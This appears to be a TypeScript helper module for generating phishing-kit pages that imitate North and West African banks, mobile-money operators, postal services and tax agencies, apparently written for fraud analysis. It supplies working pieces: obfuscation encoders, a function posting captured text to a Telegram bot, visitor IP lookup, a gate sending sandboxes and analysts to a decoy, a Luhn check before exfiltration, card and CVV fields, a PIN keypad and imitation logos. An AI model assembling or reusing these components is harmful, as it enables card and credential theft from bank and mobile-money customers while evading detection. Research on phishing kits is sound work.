/**
 * Shared helpers for the `xe-` pages (author xe: fraud analysis at a mobile-money and banking group in
 * North and West Africa). Parts hold no pages: page shells, brand marks as inline SVG, encoders used to
 * obfuscate kit scripts at build time, and a few script snippets that several kits share in varied form.
 */

// ------------------------------------------------------------------ encoders

export const b64 = (s: string): string => Buffer.from(s, 'utf8').toString('base64');
export const hexOf = (s: string): string => Buffer.from(s, 'utf8').toString('hex');
/** Comma-separated char codes, optionally shifted (the page subtracts the shift back). */
export const codesOf = (s: string, shift = 0): string => Array.from(s, (c) => c.charCodeAt(0) + shift).join(',');
/** XOR each UTF-8 byte with a repeating key, then base64 (the page decodes with xorDecoderJs). */
export const xorB64 = (s: string, key: string): string => {
  const data = Buffer.from(s, 'utf8');
  const k = Buffer.from(key, 'utf8');
  return Buffer.from(data.map((b, i) => b ^ (k[i % k.length] ?? 0))).toString('base64');
};
export const reversed = (s: string): string => Array.from(s).reverse().join('');
/** Splits a string into quoted JS pieces joined by '+', as kits do to hide hostnames and tokens. */
export const splitJs = (s: string, size = 4): string => {
  const parts: string[] = [];
  for (let i = 0; i < s.length; i += size) parts.push(JSON.stringify(s.slice(i, i + size)));
  return parts.join('+');
};
/** A JS function (named `fn`) that reverses xorB64 with the given key expression. */
export const xorDecoderJs = (fn: string, keyExpr: string): string =>
  `function ${fn}(b){var k=${keyExpr},r=atob(b),o=new Uint8Array(r.length);for(var i=0;i<r.length;i++)o[i]=r.charCodeAt(i)^k.charCodeAt(i%k.length);return new TextDecoder().decode(o)}`;

// ------------------------------------------------------------------ shells

export type DocOpts = { title: string; lang?: string; dir?: 'rtl' | 'ltr'; head?: string; css?: string; body: string; bodyAttrs?: string };

export function doc(o: DocOpts): string {
  const dir = o.dir ? ` dir="${o.dir}"` : '';
  return `<!DOCTYPE html>
<html lang="${o.lang ?? 'fr'}"${dir}>
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${o.title}</title>
${o.head ?? ''}
${o.css ? `<style>${o.css}</style>` : ''}
</head>
<body${o.bodyAttrs ? ' ' + o.bodyAttrs : ''}>
${o.body}
</body>
</html>`;
}

// ------------------------------------------------------------------ brand marks (simplified, inline)

const mark = (w: number, h: number, inner: string, label: string): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="${w}" height="${h}" viewBox="0 0 ${w} ${h}" role="img" aria-label="${label}">${inner}</svg>`;

export const logos = {
  attijari: (h = 38) => mark(Math.round(h * 4.4), h, `<circle cx="${h / 2}" cy="${h / 2}" r="${h / 2 - 2}" fill="#f6a800"/><path d="M${h * 0.3} ${h * 0.7} L${h / 2} ${h * 0.25} L${h * 0.7} ${h * 0.7} Z" fill="#1d1d1b"/><text x="${h + 6}" y="${h * 0.66}" font-family="Arial" font-weight="700" font-size="${h * 0.42}" fill="#1d1d1b">attijariwafa bank</text>`, 'Attijariwafa bank'),
  cih: (h = 36) => mark(Math.round(h * 3.2), h, `<rect width="${h}" height="${h}" rx="6" fill="#0a4f9e"/><text x="${h * 0.14}" y="${h * 0.68}" font-family="Arial" font-weight="700" font-size="${h * 0.42}" fill="#fff">CIH</text><text x="${h + 6}" y="${h * 0.66}" font-family="Arial" font-size="${h * 0.44}" fill="#f28c00">BANK</text>`, 'CIH Bank'),
  boa: (h = 36) => mark(Math.round(h * 4), h, `<rect width="${h}" height="${h}" fill="#00539b"/><path d="M${h * 0.2} ${h * 0.8} Q${h / 2} ${h * 0.1} ${h * 0.8} ${h * 0.8}" stroke="#fff" stroke-width="3" fill="none"/><text x="${h + 6}" y="${h * 0.66}" font-family="Arial" font-weight="700" font-size="${h * 0.4}" fill="#00539b">BANK OF AFRICA</text>`, 'Bank of Africa'),
  bp: (h = 36) => mark(Math.round(h * 4.2), h, `<rect width="${h}" height="${h}" rx="${h / 2}" fill="#8b4513"/><path d="M${h * 0.25} ${h * 0.75} C${h * 0.3} ${h * 0.3} ${h * 0.6} ${h * 0.2} ${h * 0.75} ${h * 0.35} L${h * 0.6} ${h * 0.75} Z" fill="#f39200"/><text x="${h + 6}" y="${h * 0.66}" font-family="Georgia" font-size="${h * 0.4}" fill="#8b4513">Banque Populaire</text>`, 'Banque Populaire'),
  biat: (h = 34) => mark(Math.round(h * 2.6), h, `<rect width="${h * 2.6}" height="${h}" rx="4" fill="#003b71"/><text x="${h * 0.3}" y="${h * 0.7}" font-family="Arial Black,Arial" font-weight="900" font-size="${h * 0.55}" fill="#fff">BIAT</text>`, 'BIAT'),
  ecobank: (h = 34) => mark(Math.round(h * 3.6), h, `<circle cx="${h / 2}" cy="${h / 2}" r="${h / 2 - 1}" fill="#005b82"/><circle cx="${h / 2}" cy="${h / 2}" r="${h / 4}" fill="#7ac143"/><text x="${h + 6}" y="${h * 0.66}" font-family="Arial" font-weight="700" font-size="${h * 0.44}" fill="#005b82">Ecobank</text>`, 'Ecobank'),
  sg: (h = 34) => mark(Math.round(h * 3.8), h, `<rect width="${h}" height="${h / 2}" fill="#e60028"/><rect y="${h / 2}" width="${h}" height="${h / 2}" fill="#000"/><rect x="${h * 0.2}" y="${h * 0.45}" width="${h * 0.6}" height="${h * 0.1}" fill="#fff"/><text x="${h + 6}" y="${h * 0.66}" font-family="Arial" font-size="${h * 0.38}" fill="#000">SOCIETE GENERALE</text>`, 'Société Générale'),
  orange: (h = 40) => mark(h, h, `<rect width="${h}" height="${h}" fill="#ff7900"/><rect x="${h * 0.12}" y="${h * 0.72}" width="${h * 0.76}" height="${h * 0.08}" fill="#fff"/>`, 'Orange'),
  wave: (h = 40) => mark(h, h, `<rect width="${h}" height="${h}" rx="${h * 0.24}" fill="#1dc8f2"/><ellipse cx="${h / 2}" cy="${h * 0.55}" rx="${h * 0.26}" ry="${h * 0.3}" fill="#0b1d3a"/><ellipse cx="${h / 2}" cy="${h * 0.62}" rx="${h * 0.15}" ry="${h * 0.2}" fill="#fff"/>`, 'Wave'),
  mtn: (h = 40) => mark(Math.round(h * 1.6), h, `<rect width="${h * 1.6}" height="${h}" fill="#ffcb05"/><ellipse cx="${h * 0.8}" cy="${h / 2}" rx="${h * 0.7}" ry="${h * 0.36}" fill="none" stroke="#000" stroke-width="2"/><text x="${h * 0.38}" y="${h * 0.64}" font-family="Arial" font-weight="900" font-size="${h * 0.38}">MTN</text>`, 'MTN'),
  moov: (h = 36) => mark(Math.round(h * 3), h, `<text x="0" y="${h * 0.74}" font-family="Arial" font-weight="700" font-size="${h * 0.7}" fill="#0068b3">moov</text><circle cx="${h * 2.7}" cy="${h * 0.3}" r="${h * 0.16}" fill="#f7941d"/>`, 'Moov Africa'),
  barid: (h = 40) => mark(Math.round(h * 3.4), h, `<rect width="${h}" height="${h}" fill="#ffcc00"/><path d="M${h * 0.15} ${h * 0.3} h${h * 0.7} v${h * 0.45} h-${h * 0.7}z M${h * 0.15} ${h * 0.3} l${h * 0.35} ${h * 0.25} l${h * 0.35} -${h * 0.25}" fill="none" stroke="#003a70" stroke-width="2.5"/><text x="${h + 6}" y="${h * 0.45}" font-family="Arial" font-weight="700" font-size="${h * 0.3}" fill="#003a70">Barid Al-Maghrib</text><text x="${h + 6}" y="${h * 0.85}" font-family="Arial" font-size="${h * 0.3}" fill="#003a70">بريد المغرب</text>`, 'Barid Al-Maghrib'),
  amana: (h = 36) => mark(Math.round(h * 3), h, `<rect width="${h * 3}" height="${h}" rx="4" fill="#e30613"/><text x="${h * 0.3}" y="${h * 0.7}" font-family="Arial" font-weight="700" font-size="${h * 0.52}" fill="#fff">AMANA</text>`, 'Amana'),
  posteTn: (h = 38) => mark(Math.round(h * 3.6), h, `<circle cx="${h / 2}" cy="${h / 2}" r="${h / 2 - 1}" fill="#1a3f8f"/><path d="M${h * 0.25} ${h * 0.55} l${h * 0.25} -${h * 0.2} l${h * 0.25} ${h * 0.2}" stroke="#ffd200" stroke-width="3" fill="none"/><text x="${h + 6}" y="${h * 0.66}" font-family="Arial" font-weight="700" font-size="${h * 0.36}" fill="#1a3f8f">La Poste Tunisienne</text>`, 'La Poste Tunisienne'),
  dhl: (h = 30) => mark(Math.round(h * 4.4), h, `<rect width="${h * 4.4}" height="${h}" fill="#ffcc00"/><text x="${h * 0.4}" y="${h * 0.78}" font-family="Arial Black,Arial" font-style="italic" font-weight="900" font-size="${h * 0.8}" fill="#d40511">DHL</text>`, 'DHL'),
  laposte: (h = 36) => mark(Math.round(h * 3), h, `<rect width="${h * 3}" height="${h}" fill="#ffcd00"/><text x="${h * 0.25}" y="${h * 0.68}" font-family="Arial" font-weight="700" font-size="${h * 0.5}" fill="#003da5">La Poste</text>`, 'La Poste'),
  dgiMa: (h = 40) => mark(Math.round(h * 4.6), h, `<circle cx="${h / 2}" cy="${h / 2}" r="${h / 2 - 1}" fill="#c1272d"/><path d="M${h / 2} ${h * 0.2} l${h * 0.09} ${h * 0.26} h${h * 0.27} l-${h * 0.22} ${h * 0.16} l${h * 0.09} ${h * 0.26} l-${h * 0.23} -${h * 0.16} l-${h * 0.23} ${h * 0.16} l${h * 0.09} -${h * 0.26} l-${h * 0.22} -${h * 0.16} h${h * 0.27}z" fill="none" stroke="#006233" stroke-width="2"/><text x="${h + 6}" y="${h * 0.45}" font-family="Arial" font-weight="700" font-size="${h * 0.28}" fill="#333">Direction Générale des Impôts</text><text x="${h + 6}" y="${h * 0.85}" font-family="Arial" font-size="${h * 0.28}" fill="#333">المديرية العامة للضرائب</text>`, 'DGI'),
  cnssMa: (h = 40) => mark(Math.round(h * 3), h, `<rect width="${h}" height="${h}" rx="8" fill="#0072bc"/><text x="${h * 0.1}" y="${h * 0.63}" font-family="Arial" font-weight="700" font-size="${h * 0.3}" fill="#fff">CNSS</text><text x="${h + 6}" y="${h * 0.62}" font-family="Arial" font-size="${h * 0.3}" fill="#0072bc">الضمان الاجتماعي</text>`, 'CNSS'),
  jumia: (h = 32) => mark(Math.round(h * 3.2), h, `<text x="0" y="${h * 0.78}" font-family="Arial Black,Arial" font-weight="900" font-size="${h * 0.8}" fill="#000">JUMIA</text><path d="M${h * 2.85} ${h * 0.1} l${h * 0.25} ${h * 0.2} l-${h * 0.25} ${h * 0.2}z" fill="#f68b1e"/>`, 'Jumia'),
  avito: (h = 32) => mark(Math.round(h * 3), h, `<circle cx="${h * 0.3}" cy="${h * 0.3}" r="${h * 0.2}" fill="#00aaff"/><circle cx="${h * 0.7}" cy="${h * 0.3}" r="${h * 0.14}" fill="#ff4053"/><circle cx="${h * 0.3}" cy="${h * 0.72}" r="${h * 0.12}" fill="#97cf26"/><circle cx="${h * 0.7}" cy="${h * 0.7}" r="${h * 0.18}" fill="#a169f7"/><text x="${h + 4}" y="${h * 0.72}" font-family="Arial" font-weight="700" font-size="${h * 0.6}" fill="#0a0a0a">avito</text>`, 'Avito'),
};

// ------------------------------------------------------------------ shared script snippets

/**
 * The usual kit exfil: a function `fn(text)` that posts to a Telegram bot. `token` and `chat` are JS
 * expressions (so callers can pass an obfuscated expression or a plain quoted literal).
 */
export function tgSendJs(fn: string, tokenExpr: string, chatExpr: string, style: 'fetch' | 'xhr' | 'jquery' = 'fetch'): string {
  const url = `'https://api.telegram.org/bot'+${tokenExpr}+'/sendMessage'`;
  if (style === 'xhr') {
    return `function ${fn}(t,cb){var x=new XMLHttpRequest();x.open('POST',${url},true);x.setRequestHeader('Content-Type','application/json');x.onloadend=function(){cb&&cb()};x.send(JSON.stringify({chat_id:${chatExpr},text:t,parse_mode:'HTML'}))}`;
  }
  if (style === 'jquery') {
    return `function ${fn}(t,cb){$.ajax({url:${url},method:'POST',data:{chat_id:${chatExpr},text:t},complete:function(){cb&&cb()}})}`;
  }
  return `async function ${fn}(t){try{await fetch(${url},{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:${chatExpr},text:t})})}catch(e){}}`;
}

/** Visitor info that kits prepend to every message (IP lookup, UA). The lookup host is a JS expression. */
export const visitorInfoJs = (fn: string, ipUrlExpr = `'https://api.ipify.org?format=json'`): string =>
  `async function ${fn}(){var ip='?';try{ip=(await (await fetch(${ipUrlExpr})).json()).ip}catch(e){}return 'IP: '+ip+'\\nUA: '+navigator.userAgent+'\\nLang: '+navigator.language}`;

/** A bot/analyst gate: headless, webdriver, no touch on "mobile" kits, wrong time zone → off to a decoy. */
export function gateJs(opts: { decoy: string; zones?: string[]; mobileOnly?: boolean; onPass?: string }): string {
  const zones = opts.zones ? `var z=Intl.DateTimeFormat().resolvedOptions().timeZone||'';if(!${JSON.stringify(opts.zones)}.some(function(p){return z.indexOf(p)===0}))bad=1;` : '';
  const mobile = opts.mobileOnly ? `if(!('ontouchstart' in window)||screen.width>900)bad=1;` : '';
  return `(function(){var bad=0;if(navigator.webdriver)bad=1;if(/HeadlessChrome|PhantomJS|bot|crawl|spider|Lighthouse|urlscan/i.test(navigator.userAgent))bad=1;if(!navigator.languages||navigator.languages.length===0)bad=1;${zones}${mobile}if(bad){location.replace(${JSON.stringify(opts.decoy)});return}${opts.onPass ?? ''}})();`;
}

/** Luhn check as kits ship it (to refuse obviously fake cards before exfil). */
export const luhnJs = (fn: string): string =>
  `function ${fn}(n){n=(n||'').replace(/\\D/g,'');var s=0,d=false;for(var i=n.length-1;i>=0;i--){var c=+n[i];if(d){c*=2;if(c>9)c-=9}s+=c;d=!d}return n.length>=15&&s%10===0}`;

/** A floating WhatsApp button as scam pages use (and, to be fair, real shops). */
export const waFloat = (number: string, text: string, label = 'WhatsApp'): string =>
  `<a class="wa-float" href="https://wa.me/${number}?text=${encodeURIComponent(text)}" style="position:fixed;right:18px;bottom:18px;background:#25d366;color:#fff;border-radius:28px;padding:12px 18px;font:600 15px Arial;text-decoration:none;box-shadow:0 4px 14px rgba(0,0,0,.25)">&#9742; ${label}</a>`;

/** Card-entry fields (French), parametrised so each page lays them out in its own classes. */
export function cardFieldsFr(o: { cls: string; amountLine?: string; holder?: boolean; idPrefix?: string }): string {
  const p = o.idPrefix ?? 'cc';
  return `${o.amountLine ? `<p class="${o.cls}-amount">${o.amountLine}</p>` : ''}
${o.holder === false ? '' : `<label class="${o.cls}-l" for="${p}-name">Nom du titulaire</label><input class="${o.cls}-i" id="${p}-name" name="holder" autocomplete="cc-name" required>`}
<label class="${o.cls}-l" for="${p}-num">Numéro de carte</label><input class="${o.cls}-i" id="${p}-num" name="cardnumber" inputmode="numeric" autocomplete="cc-number" maxlength="19" placeholder="0000 0000 0000 0000" required>
<div class="${o.cls}-row"><div><label class="${o.cls}-l" for="${p}-exp">Date d'expiration</label><input class="${o.cls}-i" id="${p}-exp" name="exp" placeholder="MM/AA" maxlength="5" autocomplete="cc-exp" required></div>
<div><label class="${o.cls}-l" for="${p}-cvv">Cryptogramme (CVV)</label><input class="${o.cls}-i" id="${p}-cvv" name="cvv" inputmode="numeric" maxlength="4" autocomplete="cc-csc" required></div></div>`;
}

/** A cookie/consent bar as real sites (and copied kits) show. */
export const cookieBar = (text: string, accept = 'Accepter'): string =>
  `<div id="cookie-bar" style="position:fixed;left:0;right:0;bottom:0;background:#222;color:#eee;padding:12px 16px;font:13px Arial;display:flex;gap:12px;align-items:center;justify-content:space-between">${text}<button onclick="this.parentNode.remove()" style="background:#fff;border:0;padding:6px 14px;border-radius:3px">${accept}</button></div>`;

/** A generic corporate footer for real organisations' pages. */
export const orgFooter = (org: string, year: string, links: Array<[string, string]>): string =>
  `<footer style="border-top:1px solid #ddd;margin-top:40px;padding:18px 24px;font:13px Arial;color:#666"><nav>${links.map(([href, t]) => `<a href="${href}" style="color:#555;margin-right:16px">${t}</a>`).join('')}</nav><p>&copy; ${year} ${org}. Tous droits réservés.</p></footer>`;

/** Keypad for PIN entry (mobile-money style); `target` is the id of the hidden input it fills. */
export function pinPadHtml(cls: string, target: string, digits = 4): string {
  const keys = ['1', '2', '3', '4', '5', '6', '7', '8', '9', '', '0', '&#9003;'];
  return `<div class="${cls}-dots">${'<span></span>'.repeat(digits)}</div>
<div class="${cls}-pad">${keys.map((k) => (k ? `<button type="button" data-k="${k === '&#9003;' ? 'del' : k}">${k}</button>` : '<span></span>')).join('')}</div>
<input type="hidden" id="${target}" name="${target}">
<script>(function(){var v='',h=document.getElementById(${JSON.stringify(target)}),dots=document.querySelectorAll('.${cls}-dots span');document.querySelectorAll('.${cls}-pad button').forEach(function(b){b.onclick=function(){var k=b.getAttribute('data-k');if(k==='del')v=v.slice(0,-1);else if(v.length<${digits})v+=k;h.value=v;dots.forEach(function(d,i){d.className=i<v.length?'on':''});if(v.length===${digits})h.dispatchEvent(new Event('complete'))}})})();</script>`;
}
